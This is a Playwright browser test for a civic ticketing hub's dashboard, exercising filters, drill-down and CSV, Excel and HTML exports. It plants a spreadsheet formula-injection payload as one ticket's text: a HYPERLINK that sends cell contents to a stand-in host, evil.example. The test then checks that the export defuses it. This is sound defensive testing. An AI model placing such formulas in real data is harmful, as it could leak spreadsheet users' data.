"""The commissioner opens the dashboard on demo data, narrows it to a department, drills into
the tickets behind a figure, and downloads them: in headless Chromium against a real hub.

Screenshots: test-artifacts/browser/dashboard-*.png.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from live_hub import ARTIFACTS, log_in, open_page, running_hub, shot
from openpyxl import load_workbook
from playwright.sync_api import Page, expect

from hub import bootstrap
from hub.config import load_settings
from hub.demo_history import seed_demo_history

pytestmark = pytest.mark.browser
# A citizen whose message would run as a formula in a careless spreadsheet.
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Click")'


@pytest.fixture(scope="module")
def hub_url(tmp_path_factory, template_database):
    """A hub on the demo database with six weeks of history, one ticket's text hostile."""
    folder = tmp_path_factory.mktemp("dashboard-data")
    shutil.copyfile(template_database, folder / "hub.duckdb")
    built = bootstrap.build_hub(load_settings(data_dir=folder), create=False)
    try:
        seed_demo_history(built, bootstrap.demo_corpus())
        with built.store.transaction() as cur:
            # The newest Water Supply ticket is made one still waiting for a first response,
            # opened yesterday. The demo's times and outcomes follow the clock's hour, so which
            # tickets are still waiting differs by the hour (at some hours no Water Supply
            # ticket is): the test makes its own rather than hoping for one.
            ticket_id, interaction_id = cur.execute(
                "SELECT id, interaction_id FROM tickets WHERE department_code = 'WATER'"
                " AND NOT hidden AND merged_into IS NULL ORDER BY opened_at DESC LIMIT 1"
            ).fetchone()
            cur.execute(
                "UPDATE tickets SET status = 'new', first_response_at = NULL,"
                " acknowledged_at = NULL, resolved_at = NULL, closed_at = NULL,"
                " opened_at = greatest(opened_at, now() - INTERVAL 1 DAY) WHERE id = ?",
                [ticket_id],
            )
            cur.execute(
                "UPDATE interactions SET text = $text WHERE id = $id",
                {"text": FORMULA, "id": interaction_id},
            )
    finally:
        built.close()
    with running_hub(tmp_path_factory.mktemp("browser-dashboard"), folder / "hub.duckdb") as url:
        yield url


def choose(page: Page, label: str, option: str) -> None:
    """Pick an option of a Streamlit select box by typing it."""
    page.get_by_role("combobox", name=label, exact=True).click()
    page.keyboard.type(option)
    page.keyboard.press("Enter")


def settle(page: Page) -> None:
    """Wait until the app has finished its rerun (a download button's file changes on each)."""
    page.wait_for_timeout(300)
    expect(page.get_by_test_id("stStatusWidget")).to_have_count(0, timeout=30_000)


def download(page: Page, button: str, folder) -> Path:
    """Click a download button once the page is still, and save the file in ``folder``."""
    settle(page)
    with page.expect_download() as download_info:
        page.get_by_role("button", name=button).click()
    saved = folder / download_info.value.suggested_filename
    download_info.value.save_as(saved)
    return saved


def test_commissioner_filters_drills_and_downloads(hub_url, browser, tmp_path):
    page = browser.new_page(viewport={"width": 1400, "height": 1100}, accept_downloads=True)
    page.set_default_timeout(30_000)
    try:
        log_in(page, hub_url, "commissioner")
        open_page(page, "Dashboard")
        expect(page.get_by_role("heading", name="Dashboard")).to_be_visible()
        expect(page.get_by_test_id("stMetric").first).to_be_visible()
        tickets_all = page.get_by_test_id("stMetric").first.inner_text()
        expect(page.get_by_test_id("stDataFrame").first).to_be_visible()
        shot(page, "dashboard-1-commissioner")

        # Narrow it to Water Supply: the headline changes.
        choose(page, "Department", "Water Supply")
        expect(page.get_by_text("Water Supply · জল সরবরাহ").first).to_be_visible()
        expect(page.get_by_test_id("stMetric").first).not_to_have_text(tickets_all)
        shot(page, "dashboard-2-water-supply")

        # The trend and the distribution charts draw (Altair, as a canvas or SVG).
        page.get_by_role("tab", name="Trends").click()
        expect(page.get_by_text("Download the trend (CSV)")).to_be_visible()
        expect(page.locator("[data-testid='stVegaLiteChart']").first).to_be_visible()
        shot(page, "dashboard-3-trends")
        page.get_by_role("tab", name="Distribution").click()
        expect(page.locator("[data-testid='stVegaLiteChart']").first).to_be_visible()
        shot(page, "dashboard-4-distribution")

        # Drill into the department: the tickets still waiting for a first response.
        choose(page, "Figure", "Waiting for a first response")
        choose(page, "In department", "Water Supply")
        page.get_by_role("button", name="Show tickets").click()
        expect(
            page.get_by_text("Water Supply · জল সরবরাহ: Waiting for a first response")
        ).to_be_visible()
        expect(page.get_by_role("button", name="Open ticket")).to_be_visible()
        shot(page, "dashboard-5-tickets-behind")

        # Download them: the hostile text arrives as text, never as a formula.
        saved = download(page, "Download these tickets (CSV)", tmp_path)
        rows = list(csv.DictReader(io.StringIO(saved.read_bytes().decode("utf-8-sig"))))
        assert rows, "the export has the tickets"
        assert {row["Department code"] for row in rows} == {"WATER"}
        hostile = [row["Text"] for row in rows if "HYPERLINK" in row["Text"]]
        assert hostile == ["'" + FORMULA]

        # Every table at once, as Excel.
        workbook = load_workbook(download(page, "Every table (Excel)", tmp_path))
        assert any(name.startswith("Department league") for name in workbook.sheetnames)
        league = workbook[next(n for n in workbook.sheetnames if n.startswith("Department"))]
        assert league.cell(row=2, column=1).value == "WATER"

        # The printable weekly report opens as a page of its own.
        report = download(page, "Weekly report (printable HTML)", ARTIFACTS)
        assert "Water Supply" in report.read_text(encoding="utf-8")
        printed = browser.new_page(viewport={"width": 900, "height": 1200})
        printed.goto(report.as_uri())
        printed.screenshot(path=str(ARTIFACTS / "dashboard-6-weekly-report.png"), full_page=True)
        printed.close()

        # Open one of the tickets from the list.
        page.get_by_role("button", name="Open ticket").click()
        expect(page.get_by_role("heading", name="Ticket")).to_be_visible()
        shot(page, "dashboard-7-ticket")
    finally:
        page.close()


def test_officer_sees_only_their_department(hub_url, browser):
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.set_default_timeout(30_000)
    try:
        log_in(page, hub_url, "officer.roads")
        open_page(page, "Dashboard")
        expect(page.get_by_role("heading", name="Dashboard")).to_be_visible()
        expect(page.get_by_label("Department").first).to_have_value("Roads · রাস্তা")
        shot(page, "dashboard-8-officer")
    finally:
        page.close()
